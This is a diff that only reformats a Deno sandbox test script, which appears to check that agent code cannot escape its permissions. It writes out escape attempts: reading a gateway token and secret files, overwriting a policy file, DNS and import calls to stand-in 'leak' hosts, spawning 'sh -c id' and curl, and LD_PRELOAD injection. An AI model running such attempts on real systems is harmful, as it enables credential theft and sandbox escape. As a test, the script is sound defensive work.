@@ -31,7 +31,10 @@ await attempt("read it through a hard link", () => Deno.link(`${folder}/secret`,
 await attempt("import it", () => import(`file://${folder}/secret`));
 await attempt("list /", () => [...Deno.readDirSync("/")]);
 await attempt("write elsewhere", () => Deno.writeTextFile(`${folder}/new`, "x"));
-await attempt("write its own code", () => Deno.writeTextFile(new URL("../main.ts", import.meta.url), "", { append: true }));
+await attempt(
+  "write its own code",
+  () => Deno.writeTextFile(new URL("../main.ts", import.meta.url), "", { append: true }),
+);
 await attempt("move a file out", () => Deno.rename(`${data}/agent.json`, `${folder}/taken`));
 await attempt("read the gateway's token", () => Deno.readTextFile(`${data}/agent.json`));
 await attempt("write the rules", () => Deno.writeTextFile(`${data}/policy.json`, "{}"));
@@ -47,7 +50,10 @@ await attempt("connect with Node's net", () => connectNode(host, port));
 await attempt("a socket to another port", () => new WebSocket(`ws://${stranger}`));
 await attempt("reach another host", () => Deno.connect({ hostname: "192.0.2.1", port: 443 }));
 await attempt("ask for a name", () => Deno.resolveDns("leak.example", "A"));
-await attempt("a socket of the file system", () => Deno.connect({ transport: "unix", path: `${folder}/socket` } as never));
+await attempt(
+  "a socket of the file system",
+  () => Deno.connect({ transport: "unix", path: `${folder}/socket` } as never),
+);
 await attempt("import from another host", () => import(`http://${stranger}/leak.js`));
 await attempt("import from a host that Deno trusts", async () => {
   const tried = await import("https://esm.sh/" + "leak").then(() => "", (error: Error) => error.message);
@@ -63,8 +69,11 @@ await attempt("start a shell", () => new Deno.Command("sh", { args: ["-c", "id"]
 await attempt("start Deno", () => new Deno.Command(Deno.execPath(), { args: ["--version"] }).outputSync());
 await attempt("start curl by its path", () => new Deno.Command("/usr/bin/curl").outputSync());
 await attempt("start a shell with Node", () => execFileSync("sh", ["-c", "id"]));
-await attempt("start ffmpeg with another loader", () =>
-  new Deno.Command("ffmpeg", { args: ["-version"], env: { LD_PRELOAD: `${folder}/evil.so` } }).outputSync());
+await attempt(
+  "start ffmpeg with another loader",
+  () =>
+    new Deno.Command("ffmpeg", { args: ["-version"], env: { LD_PRELOAD: `${folder}/evil.so` } }).outputSync(),
+);
 await attempt("start ffmpeg", () => new Deno.Command("ffmpeg", { args: ["-version"] }).outputSync());
 await attempt("end another process", () => Deno.kill(Deno.ppid, 0 as never));
 
@@ -74,7 +83,9 @@ await attempt("load a library", () => Deno.dlopen("libc.so.6", {}));
 await attempt("list network interfaces", () => Deno.networkInterfaces());
 await attempt("ask who is signed in", () => Deno.uid());
 await attempt("read it from a worker", () => {
-  const code = `try { postMessage(Deno.readTextFileSync(${JSON.stringify(`${folder}/secret`)})) } catch { postMessage(null) }`;
+  const code = `try { postMessage(Deno.readTextFileSync(${
+    JSON.stringify(`${folder}/secret`)
+  })) } catch { postMessage(null) }`;
   const worker = new Worker(`data:text/javascript,${encodeURIComponent(code)}`, { type: "module" });
   return new Promise<void>((resolve, reject) => {
     worker.onmessage = ({ data }) => data === null ? reject(new Deno.errors.NotCapable()) : resolve();
@@ -82,7 +93,9 @@ await attempt("read it from a worker", () => {
   }).finally(() => worker.terminate());
 });
 await attempt("ask for more rights", async () => {
-  if ((await Deno.permissions.request({ name: "read", path: folder })).state !== "granted") throw new Deno.errors.NotCapable();
+  if ((await Deno.permissions.request({ name: "read", path: folder })).state !== "granted") {
+    throw new Deno.errors.NotCapable();
+  }
 });
 
 function connectNode(host: string, port: number): Promise<void> {
